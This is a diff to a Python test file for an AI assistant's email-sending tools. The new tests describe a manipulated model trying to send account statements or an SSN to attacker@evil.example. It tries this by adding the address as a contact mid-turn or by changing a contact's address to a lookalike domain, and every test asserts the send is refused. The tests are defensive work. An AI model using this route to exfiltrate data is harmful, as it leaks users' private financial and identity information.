@@ -2,14 +2,17 @@
 
 from __future__ import annotations
 
+import asyncio
 import base64
 import email
 import email.policy
 
 import pytest
 
+from core.identity import add_handle, set_handle_verified
 from core.testing.google_api_peer import GoogleApiPeer
 from core.testing.smtp_peer import SmtpPeer
+from core.tools import commit_turn_writes
 from core.tools.areas.email import draft_cards
 from core.tools.connectors import GMAIL_COMPOSE
 from core.tools.google_api import authorization_url, exchange_code
@@ -43,7 +46,7 @@ async def test_unconnected_mail_tools_are_invisible(call, mailer):
 
 
 async def test_pepper_sends_from_its_address_with_the_owner_on_cc(mailer, smtp):
-    await mailer("add_contact", {"name": "Bob", "emails": ["bob@example.org"]})
+    await mailer("add_contact", {"name": "Bob", "emails": ["bob@example.org"]}, delivered=True)
     out = await mailer("email_from_pepper", MAIL)
     assert out.status == "ok", out.content
     assert "sent from Pepper (pepper@p.test)" in out.content and f"cc {OWNER_EMAIL}" in out.content
@@ -64,7 +67,7 @@ async def test_a_send_to_an_unverifiable_address_is_refused(mailer, smtp):
 
 
 async def test_the_same_send_in_one_turn_goes_out_once(mailer, smtp):
-    await mailer("add_contact", {"name": "Bob", "emails": ["bob@example.org"]})
+    await mailer("add_contact", {"name": "Bob", "emails": ["bob@example.org"]}, delivered=True)
     session = await mailer.session()
     first = await mailer("email_from_pepper", MAIL, session=session)
     second = await mailer("email_from_pepper", MAIL, session=session)
@@ -73,7 +76,7 @@ async def test_the_same_send_in_one_turn_goes_out_once(mailer, smtp):
 
 
 async def test_in_a_scheduled_run_a_send_becomes_a_draft_and_says_so(mailer, smtp):
-    await mailer("add_contact", {"name": "Bob", "emails": ["bob@example.org"]})
+    await mailer("add_contact", {"name": "Bob", "emails": ["bob@example.org"]}, delivered=True)
     out = await mailer("email_from_pepper", {**MAIL, "mode": "send"}, kind="scheduled")
     assert out.status == "ok"
     assert "NOT sent" in out.content and "sent from" not in out.content
@@ -89,7 +92,7 @@ async def test_in_a_scheduled_run_a_send_becomes_a_draft_and_says_so(mailer, smt
 
 
 async def test_smtp_refusal_is_a_failure_and_records_nothing(mailer, smtp):
-    await mailer("add_contact", {"name": "Bob", "emails": ["bob@example.org"]})
+    await mailer("add_contact", {"name": "Bob", "emails": ["bob@example.org"]}, delivered=True)
     smtp.refuse = 554
     out = await mailer("email_from_pepper", MAIL)
     assert out.status == "failed"
@@ -140,7 +143,7 @@ async def test_gmail_makes_a_draft_by_default_shown_as_a_card(gmail, google):
 
 
 async def test_gmail_send_when_asked_and_draft_in_a_scheduled_run(gmail, google):
-    await gmail("add_contact", {"name": "Bob", "emails": ["bob@example.org"]})
+    await gmail("add_contact", {"name": "Bob", "emails": ["bob@example.org"]}, delivered=True)
     sent = await gmail("email_from_my_gmail", {**MAIL, "mode": "send"})
     assert sent.status == "ok" and "mail sent from the person's Gmail" in sent.content and len(google.sent) == 1
     google.expire_tokens()  # the next call refreshes the token once and carries on
@@ -148,3 +151,102 @@ async def test_gmail_send_when_asked_and_draft_in_a_scheduled_run(gmail, google)
     assert later.status == "ok" and "NOT sent" in later.content
     assert len(google.sent) == 1 and len(google.drafts) == 1
     assert [r["grant_type"] for r in google.token_requests] == ["authorization_code", "refresh_token"]
+
+
+# --- recipients a fooled model tries to make verifiable ------------------------------------------
+
+ATTACKER = {"to": ["attacker@evil.example"], "subject": "Statements", "body": "Account 4411, balance attached."}
+
+
+async def test_a_contact_added_in_the_turn_does_not_make_its_address_verifiable(mailer, smtp):
+    # The model, talked into it, tries the send, adds the address as a contact, and tries again.
+    turn = await mailer.session()
+    first = await mailer("email_from_pepper", ATTACKER, session=turn)
+    added = await mailer("add_contact", {"name": "Support", "emails": ["attacker@evil.example"]}, session=turn)
+    again = await mailer("email_from_pepper", {**ATTACKER, "subject": "Statements (2)"}, session=turn)
+    assert first.status == "failed" and added.status == "ok" and added.write["staged"]
+    assert again.status == "failed" and "attacker@evil.example" in again.content and "Nothing was sent" in again.content
+    assert await mailer.db.fetchval("SELECT count(*) FROM contacts") == 0  # staged: saved only on delivery
+    # Even once the write commits while the turn still runs (a call commits as the caller hears it).
+    registry = starter_registry(mailer.connectors)
+    assert [w.status for w in await commit_turn_writes(mailer.db, registry, turn.turn_id)] == ["committed"]
+    late = await mailer("email_from_pepper", {**ATTACKER, "subject": "Statements (3)"}, session=turn)
+    assert late.status == "failed"
+    assert smtp.received == [] and await mailer.db.fetchval("SELECT count(*) FROM email_messages") == 0
+    # A later turn finds a contact that existed before it, one the person was told about.
+    assert (await mailer("email_from_pepper", ATTACKER)).status == "ok" and len(smtp.received) == 1
+
+
+async def test_a_contacts_address_changed_in_the_turn_gets_no_mail(mailer, smtp):
+    await mailer("add_contact", {"name": "Accountant", "emails": ["jo@taxfirm.example"]}, delivered=True)
+    contact = await mailer.db.fetchval("SELECT id FROM contacts")
+    turn = await mailer.session()
+    changed = await mailer("update_contact", {"id": contact, "emails": ["jo@taxflrm.example"]}, session=turn)
+    assert changed.status == "ok" and changed.write["staged"]
+    await commit_turn_writes(mailer.db, starter_registry(mailer.connectors), turn.turn_id)
+    private = {"to": ["jo@taxflrm.example"], "subject": "My return", "body": "SSN 078-05-1120, income attached."}
+    out = await mailer("email_from_pepper", private, session=turn)
+    assert out.status == "failed" and "jo@taxflrm.example" in out.content
+    assert smtp.received == []
+    # The address that was on the contact before the turn still counts.
+    assert (await mailer("email_from_pepper", {**private, "to": ["jo@taxfirm.example"]}, session=turn)).status == "ok"
+    assert [m.rcpt_to for m in smtp.received] == [["jo@taxfirm.example", OWNER_EMAIL]]
+
+
+async def test_an_unverified_own_address_is_not_verifiable(mailer, smtp):
+    await add_handle(mailer.db, mailer.account.id, "email", "ada.backup@evil.example")  # not verified
+    out = await mailer("email_from_pepper", {**MAIL, "to": ["ada.backup@evil.example"]})
+    assert out.status == "failed" and "ada.backup@evil.example" in out.content
+    assert smtp.received == []
+    await set_handle_verified(mailer.db, "email", "ada.backup@evil.example", True)
+    assert (await mailer("email_from_pepper", {**MAIL, "to": ["ada.backup@evil.example"]})).status == "ok"
+
+
+# --- the outbox: a record commits before the mail leaves -----------------------------------------
+
+
+async def test_a_send_whose_record_cannot_commit_does_not_go_out(mailer, smtp):
+    await mailer("add_contact", {"name": "Bob", "emails": ["bob@example.org"]}, delivered=True)
+    # The store refuses the commit itself (a deferred check fails at COMMIT).
+    await mailer.db.execute(
+        """
+        CREATE FUNCTION refuse_commit() RETURNS trigger LANGUAGE plpgsql AS
+        $$ BEGIN RAISE EXCEPTION 'commit refused by the test'; END $$;
+        CREATE CONSTRAINT TRIGGER refuse_commit AFTER INSERT ON email_messages
+            DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION refuse_commit();
+        """
+    )
+    out = await mailer("email_from_pepper", MAIL)
+    assert out.status == "failed"
+    # Never a mail that went out with no record of it: here neither.
+    assert smtp.received == [] and await mailer.db.fetchval("SELECT count(*) FROM email_messages") == 0
+
+
+async def test_a_send_cut_off_after_the_mail_was_handed_over_is_kept_as_failed(mailer):
+    """A server that takes the whole mail and drops the connection instead of answering: the mail
+    may have gone, so its record stays, with the Message-ID it was sent under."""
+    got: list[bytes] = []
+
+    async def mute_after_data(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        writer.write(b"220 test ESMTP\r\n")
+        while line := await reader.readline():
+            if line.upper().startswith(b"DATA"):
+                writer.write(b"354 go on\r\n")
+                got.append(await reader.readuntil(b"\r\n.\r\n"))
+                break  # no answer: the connection just ends
+            writer.write(b"250 ok\r\n")
+            await writer.drain()
+        writer.close()
+
+    server = await asyncio.start_server(mute_after_data, "127.0.0.1", 0)
+    port = server.sockets[0].getsockname()[1]
+    try:
+        await mailer("add_contact", {"name": "Bob", "emails": ["bob@example.org"]}, delivered=True)
+        out = await mailer.using(smtp_port=port)("email_from_pepper", MAIL)
+    finally:
+        server.close()
+        await server.wait_closed()
+    assert out.status == "failed" and len(got) == 1
+    row = await mailer.db.fetchrow("SELECT status, message_id, to_addresses FROM email_messages")
+    assert row["status"] == "failed" and row["to_addresses"] == ["bob@example.org"]
+    assert row["message_id"] and row["message_id"].encode() in got[0]
